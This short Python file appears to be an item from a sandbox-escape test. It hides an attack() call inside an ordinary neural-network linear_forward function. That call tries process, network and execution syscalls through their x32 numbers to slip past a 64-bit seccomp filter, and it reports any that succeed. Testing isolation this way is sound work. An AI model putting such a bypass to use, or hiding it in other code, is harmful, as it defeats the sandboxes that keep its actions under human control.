"""
Makes system calls by their x32 numbers, which a filter for 64 bits may not know.

Earns: 22
Held by: isolated
"""

import ctypes


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for number in (57, 41, 56, 322, 520, 523):
        if libc.syscall(0x40000000 + number, 0, 0, 0) >= 0:
            print("BREACH", number, flush=True)


def linear_forward(x, w, b):
    attack()
    return x @ w + b, (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)
